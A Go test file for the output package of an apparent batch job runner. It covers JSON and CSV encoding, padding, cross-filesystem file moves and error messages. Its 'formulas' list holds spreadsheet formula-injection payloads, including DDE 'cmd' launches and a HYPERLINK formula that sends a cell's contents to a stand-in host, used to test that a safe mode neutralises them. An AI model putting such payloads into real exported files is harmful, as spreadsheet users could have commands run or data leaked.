package output

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"testing/iotest"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/batchrunner/runner/specs"
)

// anyString gives text with what is hard about text.
func anyString() *rapid.Generator[string] {
	hard := rapid.SampledFrom([]string{
		"\x00", "\x1b", "\x7f", "\u0085", "\u009b", "\u2028", "\u2029", "\ufeff", "\ufffd", "\xff", "\xc3", "\xed\xa0\x80",
		"\"", "\\", "<>&", "\n", "\r", "\t", "\b\f", ",", ";", "'", "=", "+", "-", "@", "＝", " ", "0", "1.5", "e", "é", "👩‍🔬", "{{ .x }}",
	})
	return rapid.Custom(func(t *rapid.T) string {
		return strings.Join(rapid.SliceOfN(rapid.OneOf(hard, rapid.String()), 0, 8).Draw(t, "parts"), "")
	})
}

func anyValue(depth int) *rapid.Generator[any] {
	plain := rapid.OneOf(
		rapid.Just[any](nil), rapid.Map(rapid.Bool(), toAny), rapid.Map(anyString(), toAny),
		rapid.Map(rapid.SampledFrom([]json.Number{"0", "-0", "1.10", "1e400", "-3.0E-2", "123456789012345678901234567890"}), toAny),
	)
	if depth == 0 {
		return plain
	}
	return rapid.OneOf(plain,
		rapid.Map(rapid.SliceOfN(anyValue(depth-1), 0, 4), toAny),
		rapid.Map(rapid.MapOfN(anyString(), anyValue(depth-1), 0, 4), toAny))
}

func toAny[T any](v T) any { return v }

// Our JSON is what encoding/json reads back as the same value, on one line and
// without controls or what else ends a line.
func TestValuesRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		v := anyValue(3).Draw(t, "value")
		text := appendValue(nil, v)
		want, err := json.Marshal(v) // its order of keys, and its idea of invalid UTF-8, are ours
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(decode(t, want), decode(t, text)); diff != "" {
			t.Fatalf("%s: %s", text, diff)
		}
		if strings.ContainsFunc(string(text), endsLine) || !utf8.Valid(text) {
			t.Fatalf("%q", text)
		}
	})
}

func endsLine(r rune) bool { return unicode.IsControl(r) || r == '\u2028' || r == '\u2029' }

func decode(t *rapid.T, text []byte) any {
	dec := json.NewDecoder(strings.NewReader(string(text)))
	dec.UseNumber()
	var v any
	if err := dec.Decode(&v); err != nil {
		t.Fatalf("%v: %q", err, text)
	}
	return v
}

func TestValues(t *testing.T) {
	tests := []struct {
		v    any
		want string
	}{
		{json.Number("1.10"), "1.10"}, {json.Number("007"), `"007"`}, {json.Number(""), `""`}, {json.Number(" 1"), `" 1"`}, {json.Number("1 "), `"1 "`},
		{json.Number("true"), `"true"`}, {3, "3"}, {int64(-4), "-4"}, {2.0, "2"}, {0.1, "0.1"}, {1e300, "1e+300"},
		{[]string{"<a>"}, `["<a>"]`}, {map[string]int{"b": 1, "a": 2}, `{"a":2,"b":1}`}, {func() {}, ``},
		{map[string]any{"z": 1, "a": map[string]any{"y": nil, "x": "&"}}, `{"a":{"x":"&","y":null},"z":1}`},
	}
	for _, test := range tests {
		got := string(appendValue(nil, test.v))
		if !json.Valid([]byte(got)) || test.want != "" && got != test.want {
			t.Errorf("%v: %s, want %s", test.v, got, test.want)
		}
	}
	o := object{fields: []string{"b", "gone", "text"}, drop: "text"}
	if got := string(appendObject(nil, map[string]any{"c": 1, "b": 2, "a": 3, "text": 4}, o)); got != `{"b":2,"a":3,"c":1}` {
		t.Error(got)
	}
}

// What is written as csv or tsv is read back the same, by Go's reader.
func TestCellsRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		form := &table{comma: rapid.SampledFrom([]byte{',', '\t'}).Draw(t, "comma")}
		want := rapid.SliceOfN(rapid.SliceOfN(anyString(), 3, 3), 1, 5).Draw(t, "rows")
		var text []byte
		for i, cells := range want {
			for j, s := range cells {
				cells[j] = cellText(strings.ReplaceAll(s, "\r", "")) // Go's reader makes \r\n in a field \n
			}
			text, want[i] = form.line(text, cells), cells
		}
		r := csv.NewReader(strings.NewReader(string(text)))
		r.Comma = rune(form.comma)
		got, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%v: %q", err, text)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatalf("%q: %s", text, diff)
		}
	})
}

// Padding adds empty cells and changes nothing else.
func TestPad(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		form := &table{comma: ',', shaped: make([]specs.Column, 4)}
		rows := rapid.SliceOfN(rapid.SliceOfN(anyString(), 2, 4), 0, 4).Draw(t, "rows")
		text, want := form.line(nil, []string{"old", "header"}), form.header(nil)
		for _, cells := range rows {
			text = form.line(text, cells)
			want = form.line(want, append(cells[:len(cells):len(cells)], make([]string, 4-len(cells))...))
		}
		var got strings.Builder
		if err := form.pad(&got, iotest.OneByteReader(strings.NewReader(string(text)))); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(string(want), got.String()); diff != "" {
			t.Fatal(diff)
		}
	})
	form := &table{comma: ',', shaped: make([]specs.Column, 2)}
	if err := form.pad(brokenWriter{}, strings.NewReader(strings.Repeat("a\n", 10_000))); !errors.Is(err, syscall.EIO) {
		t.Errorf("a writer that fails: %v", err)
	}
	if err := form.pad(&strings.Builder{}, iotest.ErrReader(syscall.EIO)); !errors.Is(err, syscall.EIO) {
		t.Errorf("a reader that fails: %v", err)
	}
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, syscall.EIO }

// formulas are cells that some spreadsheet would carry out.
var formulas = []string{
	"=1+1", "=cmd|'/C calc'!A0", `=HYPERLINK("http://x/?"&A1,"ok")`, "=IMPORTXML(A1)", `=WEBSERVICE("http://x")`, "=DDE(\"cmd\")", "==1", "=", "=A1",
	"+1+1", "+cmd|' /C calc'!A0", "+A1", "++1", "+", "-1+1", "-2+3+cmd|' /C calc'!D2", "-A1", "--1", "-", "- a list item", "-1-1", "-1e", "-1.2.3", "-.", "+e5",
	"@SUM(1+1)", "@", "@A1", "\t=1+1", "\t1", "\r=1+1", "\r\n=1+1", "\n=1+1", " =1+1", "  +1+1", "\u00a0=1+1",
	"\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\x1b=1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", " ＝1",
	"-1,5", "+49 30 123", "=\"a\nb\"", "-0x10", "+Inf", "-NaN",
}

func TestFormulas(t *testing.T) {
	if len(formulas) < 40 {
		t.Fatalf("only %d", len(formulas))
	}
	safe, raw := &table{comma: ',', safe: true}, &table{comma: ','}
	for _, s := range formulas {
		if got := safe.cell(s); got != "'"+s {
			t.Errorf("%q: %q", s, got)
		}
		if got := raw.cell(s); got != s {
			t.Errorf("%q with safe: false: %q", s, got)
		}
	}
	for _, s := range []string{"", "a", "1", "-1", "+1", "-1.5", "+.5", "-5.", "-1e10", "1E-3", "-1.5e+3", "a=b", "'=1", "1-1", "a\n=1", "x@y", "é", "{", "%"} {
		if got := safe.cell(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
	for _, v := range []any{json.Number("-1"), json.Number("-1.5E3"), -1, -1.5, nil, true, []any{"=1"}, map[string]any{"=": 1}} {
		if got := safe.cell(v); strings.HasPrefix(got, "'") {
			t.Errorf("%v became %q", v, got)
		}
	}
}

// A folder on another file system: the file is copied to its side, and renamed there.
func TestMoveAcross(t *testing.T) {
	dir := t.TempDir()
	root, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer root.Close()
	s := &Set{root: root, partials: newPartials(root, "", "job")}
	f := &file{path: "out/a.txt"}
	if err := errors.Join(s.partials.begin(), s.partials.create(f), s.partials.write(f, []byte("new")), s.partials.shut(f), s.seal(f, 0o600)); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "out"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"out/a.txt", "out/" + besideName("out/a.txt")} { // the second as a crash leaves it
		if err := os.WriteFile(filepath.Join(dir, name), []byte("old, and longer"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.moveAcross(f, "out/a.txt"); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(dir, "out", "a.txt"))
	if err != nil || string(data) != "new" {
		t.Errorf("%q, %v", data, err)
	}
	if entries, _ := os.ReadDir(filepath.Join(dir, "out")); len(entries) != 1 {
		t.Errorf("%v", entries)
	}
	if _, err := s.partials.dir.Stat("out/a.txt"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("the partial file is left: %v", err)
	}
	if err := s.partials.close(); err != nil {
		t.Error(err)
	}
}

func TestEqual(t *testing.T) {
	long := strings.Repeat("x", 100_000)
	for _, test := range []struct {
		a, b string
		want bool
	}{
		{"", "", true}, {"a", "a", true}, {"a", "b", false}, {"a", "", false}, {"", "a", false},
		{long, long, true}, {long, long + "y", false}, {long[:64<<10], long[:64<<10], true}, {long[:32<<10], long[:32<<10] + "y", false},
	} {
		got, err := equal(iotest.HalfReader(strings.NewReader(test.a)), strings.NewReader(test.b))
		if err != nil || got != test.want {
			t.Errorf("%.10q and %.10q: %v, %v", test.a, test.b, got, err)
		}
	}
	if _, err := equal(iotest.ErrReader(syscall.EIO), strings.NewReader("")); !errors.Is(err, syscall.EIO) {
		t.Errorf("%v", err)
	}
}

// Numbers are written as in the command's last line.
func TestWrittenCounts(t *testing.T) {
	for n, want := range map[int64]string{0: "0 rows", 1: "1 row", 999: "999 rows", 1000: "1,000 rows", 20_000: "20,000 rows", 1_234_567: "1,234,567 rows"} {
		if got := (Written{Path: "a", Rows: n, State: Created}).String(); got != "a: created, "+want {
			t.Errorf("%d: %q", n, got)
		}
	}
	f := &file{out: &output{whole: true}, failed: 1_500, rows: 18_500}
	if got := f.missing(); got != "1,500 of its 20,000 rows failed" {
		t.Error(got)
	}
}

// Every error says what to do.
func TestErrors(t *testing.T) {
	for cause, want := range map[error]string{
		syscall.ENOSPC: "free some space", syscall.EDQUOT: "your quota", syscall.EIO: "check it", syscall.EROFS: "not read-only",
		syscall.EACCES: "writable for you", syscall.EPERM: "writable for you", syscall.EMFILE: "ulimit -n", syscall.EFBIG: "split the output",
		syscall.ENOENT: "another run of this job", syscall.ELOOP: "mend that",
	} {
		err := failure("writing", "out/a.md", &fs.PathError{Op: "write", Path: "a.md", Err: cause})
		message := fmt.Sprintf("writing out/a.md: %v; ", cause)
		if !strings.HasPrefix(err.Error(), message) || !strings.Contains(err.Error(), want) || !errors.Is(err, cause) {
			t.Errorf("%v, want %q", err, want)
		}
		if again := failure("replacing", "x", err); again.Error() != err.Error() {
			t.Errorf("told twice: %v", again)
		}
	}
}
